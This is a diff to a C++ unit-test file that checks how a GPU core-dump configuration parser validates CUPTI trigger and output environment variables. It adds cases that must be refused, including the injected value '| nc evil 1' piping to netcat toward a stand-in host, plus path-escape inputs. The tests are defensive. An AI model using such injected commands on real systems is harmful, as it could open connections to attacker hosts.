@@ -81,6 +81,10 @@ TEST(GpuArming, HostileTemplatesAreRefused) {
             "longer"},
            {environ_of({on, "CUDA_COREDUMP_PIPE=" + kDir + "/core.%p", file}), "same path"},
            {environ_of({on, pipe, "CUDA_COREDUMP_FILE=" + kDir + "-evil/core"}), "outside"},
+           // The CUPTI library's copy-out is checked the same way.
+           {environ_of({"MLFX_CUPTI_TRIGGER=" + kDir + "/t.%p", "MLFX_CUPTI_OUTPUT=/var/tmp/out"}), "outside"},
+           {environ_of({"MLFX_CUPTI_TRIGGER=| nc evil 1", "MLFX_CUPTI_OUTPUT=" + kDir + "/o"}), "command"},
+           {environ_of({"MLFX_CUPTI_TRIGGER=" + kDir + "/x", "MLFX_CUPTI_OUTPUT=" + kDir + "/x"}), "same path"},
        }) {
     auto a = parse_arming(c.env, kDir, 42, "host");
     ASSERT_FALSE(a) << c.why;
@@ -89,6 +93,21 @@ TEST(GpuArming, HostileTemplatesAreRefused) {
   }
   // A host name with a slash (a hostile UTS namespace) cannot move %h out of the directory.
   EXPECT_FALSE(expand_template(kDir + "/p.%h", kDir, 1, "../x"));
+}
+
+TEST(GpuArming, TheCuptiCopyOutIsReadFromItsOwnVariables) {
+  auto a = parse_arming(environ_of({"MLFX_CUPTI_TRIGGER=" + kDir + "/cupti-trigger.%p",
+                                    "MLFX_CUPTI_OUTPUT=" + kDir + "/cupti-core.%p"}),
+                        kDir, 42, "host");
+  ASSERT_TRUE(a) << a.error().to_string();
+  EXPECT_FALSE(a->armed);  // not for the driver's dump
+  EXPECT_TRUE(a->cupti);
+  EXPECT_EQ(a->cupti_trigger_name, "cupti-trigger.42");
+  EXPECT_EQ(a->cupti_output_name, "cupti-core.42");
+  // One of the two alone is no copy-out.
+  a = parse_arming(environ_of({"MLFX_CUPTI_TRIGGER=" + kDir + "/cupti-trigger.%p"}), kDir, 42, "host");
+  ASSERT_TRUE(a);
+  EXPECT_FALSE(a->cupti);
 }
 
 TEST(GpuArming, AnEnvironmentPastTheBoundIsCutNotFollowed) {
